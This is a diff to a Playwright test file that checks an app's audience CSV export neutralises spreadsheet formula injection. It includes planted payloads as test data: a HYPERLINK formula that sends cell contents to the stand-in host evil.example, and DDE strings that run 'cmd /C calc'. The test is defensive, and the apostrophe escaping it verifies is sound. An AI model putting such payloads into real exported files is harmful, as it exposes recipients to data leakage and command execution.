@@ -1,4 +1,3 @@
-import { execFileSync } from 'node:child_process';
 import fs from 'node:fs';
 import path from 'node:path';
 import type { APIRequestContext } from '@playwright/test';
@@ -90,35 +89,105 @@ test('every starter exports for every ESP and reads the same for every persona',
   expect(failures).toEqual([]);
 });
 
-test('an audience CSV with planted formula values opens safely', ({ studio }) => {
-  test.setTimeout(180_000);
-  const cli = (...args: string[]) =>
-    execFileSync(process.execPath, ['dist/node/electron/cli/main.js', ...args], {
-      env: { ...process.env, TAILOR_HOME: path.join(studio.dir, 'cli-home') },
-      encoding: 'utf8',
-    });
-  const workspace = path.join(studio.dir, 'planted.tailor');
-  cli('init', workspace, '--demo');
-  cli('import', workspace, '--customers', path.resolve('test/fixtures/esp-audience/planted-formulas.csv'));
+/** What a spreadsheet would run: a cell starting with = + - @ tab or CR that is not a plain number. */
+const risky = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(cell);
+
+test('an audience CSV with planted formula values opens safely (exported from the Segments view)', async ({ page, studio }) => {
+  test.setTimeout(300_000);
+  // Customers whose fields start with = + - @ (the import trims a leading tab or CR, so those arrive through a derived
+  // column: the template below prepends them, and Mailchimp cannot, so the audience carries the value Tailor renders).
+  const imported = await apiCall<{ jobId: string }>(page.request, studio.url, 'imports.start', {
+    path: path.resolve('test/fixtures/esp-audience/planted-formulas.csv'),
+    entity: 'customers',
+  });
+  await expect
+    .poll(async () => (await apiCall<{ status: string }>(page.request, studio.url, 'jobs.get', { jobId: imported.jobId })).status, {
+      timeout: 60_000,
+    })
+    .toBe('succeeded');
+  await apiCall(page.request, studio.url, 'templates.create', {
+    name: 'Planted prefixes',
+    source: `<mjml><mj-body><mj-section><mj-column><mj-text>{{ city | prepend: "\t" }}|{{ loyalty_tier | prepend: "\r" }}</mj-text></mj-column></mj-section></mj-body></mjml>`,
+  });
+
+  await page.setViewportSize({ width: 1024, height: 900 });
+  await page.goto(studio.url);
+  await page.getByRole('navigation', { name: 'Views' }).getByRole('button', { name: 'Segments' }).click();
+  await page
+    .getByRole('list', { name: 'Segments' })
+    .getByRole('button', { name: /High-value customers/ })
+    .click();
+  await page.getByRole('button', { name: 'Export audience…' }).click();
+  const dialog = page.getByRole('dialog', { name: 'Export audience' });
+  await expect(dialog.getByRole('combobox', { name: 'Segment' })).toHaveValue(/\d+/);
+  await expect(dialog.getByRole('combobox', { name: 'Segment' }).locator('option:checked')).toHaveText(/High-value customers/);
+
   for (const esp of ESP_IDS) {
-    const out = path.join(studio.dir, `high-value-${esp}.csv`);
-    const summary = JSON.parse(cli('audience', workspace, '--segment', 'High-value customers', '--esp', esp, '--out', out, '--json')) as {
-      rows: number;
-      neutralised: number;
-    };
-    expect(summary.rows).toBeGreaterThan(2);
-    expect(summary.neutralised).toBeGreaterThanOrEqual(5);
+    await dialog.getByRole('combobox', { name: 'ESP' }).selectOption(esp);
+    const template = esp === 'mailchimp' ? 'Planted prefixes' : 'None';
+    await dialog.getByRole('combobox', { name: 'Template for derived columns' }).selectOption({ label: template });
+    // The columns under the ESP's names, and how many rows.
+    await expect(dialog.getByRole('status', { name: 'Audience size' })).toContainText('contacts');
+    const table = dialog.getByRole('table', { name: /^Columns for / });
+    await expect(table).toContainText(
+      esp === 'mailchimp' ? 'FNAME' : esp === 'hubspot' ? 'firstname' : esp === 'sfmc' ? 'FirstName' : 'first_name',
+    );
+    if (esp === 'mailchimp') await expect(table).toContainText('Derived');
+    const out = path.join(studio.dir, 'audiences', `high-value-${esp}.csv`);
+    await dialog.getByRole('textbox', { name: 'CSV file' }).fill(out);
+    await dialog.getByRole('button', { name: /^Export( again)?$/ }).click();
+    const result = dialog.getByTestId('audience-result');
+    await expect(result).toContainText(`to ${out}`, { timeout: 120_000 });
+    const size = Number(
+      ((await dialog.getByRole('status', { name: 'Audience size' }).innerText()).match(/[\d,]+/)?.[0] ?? '0').replace(/,/g, ''),
+    );
+    await expect(result).toContainText(`Wrote ${size.toLocaleString('en-US')} contacts`);
+    if (esp === 'braze') await studio.shot(page, 'esp-03-audience-exported');
+
     const text = fs.readFileSync(out, 'utf8').replace(/^\uFEFF/, '');
     const rows = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
-    // Nothing a spreadsheet would run: no cell starts with = + - @ tab or CR, unless it is a plain number.
-    const risky = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(cell));
-    expect(risky).toEqual([]);
-    // The planted values are still there, as text.
-    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1;""Click"")"`);
-    expect(text).toContain(`"'+cmd|' /C calc'!A0"`);
-    expect(text).toContain(`"'-2+3+cmd|' /C calc'!A0"`);
-    expect(text).toContain(`"'@SUM(1+1)*cmd|' /C calc'!A0"`);
+    expect(rows.length - 1).toBe(size);
+    // Nothing a spreadsheet would run, anywhere in the file.
+    expect(rows.flat().filter(risky)).toEqual([]);
+    // The planted values are still there, as text: the apostrophe is the only change.
+    const cells = new Set(rows.flat());
+    for (const planted of [
+      '=HYPERLINK("http://evil.example/?"&A1;"Click")',
+      "+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '=1+1',
+      '-Bags',
+    ])
+      expect(cells.has(`'${planted}`)).toBe(true);
+    if (esp === 'mailchimp') {
+      expect(cells.has("'\tBern")).toBe(true);
+      expect(cells.has("'\rGold")).toBe(true);
+    }
+    // Normal values read as written (a number stays a number, a name stays a name).
+    const planted1 = rows.find((row) => row.includes('planted1@example.com')) ?? [];
+    expect(planted1).toEqual(expect.arrayContaining(['P-1', 'Safe', '5000', 'Gold']));
     // Every cell is quoted, so a comma or line break in a value never shifts columns.
     expect(text.split('\r\n')[0]).toMatch(/^"[^"]+"(,"[^"]+")*$/);
   }
+  await studio.shot(page, 'esp-04-audience-mailchimp');
+});
+
+test('the audience dialog says when there is nothing to export', async ({ page, studio }) => {
+  await apiCall(page.request, studio.url, 'segments.save', {
+    name: 'Nobody at all',
+    rule: { match: 'all', conditions: [{ field: 'email', op: 'equals', value: 'nobody@nowhere.invalid' }] },
+  });
+  await page.setViewportSize({ width: 1024, height: 800 });
+  await page.goto(studio.url);
+  await page.getByRole('navigation', { name: 'Views' }).getByRole('button', { name: 'Segments' }).click();
+  await page
+    .getByRole('list', { name: 'Segments' })
+    .getByRole('button', { name: /Nobody at all/ })
+    .click();
+  await page.getByRole('button', { name: 'Export audience…' }).click();
+  const dialog = page.getByRole('dialog', { name: 'Export audience' });
+  await expect(dialog.getByRole('status').filter({ hasText: 'has no members' })).toBeVisible();
+  await expect(dialog.getByRole('button', { name: 'Export', exact: true })).toBeDisabled();
+  await studio.shot(page, 'esp-05-audience-empty');
 });
